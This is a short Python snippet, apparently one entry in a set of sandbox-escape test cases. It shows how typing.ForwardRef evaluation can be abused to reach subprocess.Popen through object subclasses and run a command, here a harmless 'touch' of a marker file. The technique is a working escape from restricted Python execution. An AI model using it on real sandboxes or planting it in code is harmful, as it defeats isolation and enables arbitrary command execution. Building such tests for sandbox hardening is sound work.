# escape: typing.ForwardRef._evaluate runs its text as code
# effect: marker
import typing
ref = typing.ForwardRef("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', '{marker}']).wait()")
typing.get_type_hints(type("T", (), {{"__annotations__": {{"x": ref}}}}))
return "done"
